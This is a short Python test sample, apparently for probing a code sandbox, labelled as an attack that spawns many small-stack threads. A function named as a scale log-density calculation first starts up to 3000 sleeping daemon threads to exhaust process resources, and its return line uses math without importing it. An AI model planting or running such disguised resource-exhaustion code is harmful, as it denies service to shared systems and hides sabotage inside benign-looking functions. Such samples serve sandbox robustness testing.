# class: processes
# attack: starts threads with small stacks without end
# task: 00_mini/scale-density
# form: cell

import threading, time
threading.stack_size(32768)
def scale_log_density(x, a):
    started = 0
    try:
        while started < 3000:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
        time.sleep(1)
    except RuntimeError:
        return None
    return -0.5 * (x / a) ** 2 - 0.5 * math.log(2 * math.pi) - math.log(abs(a))
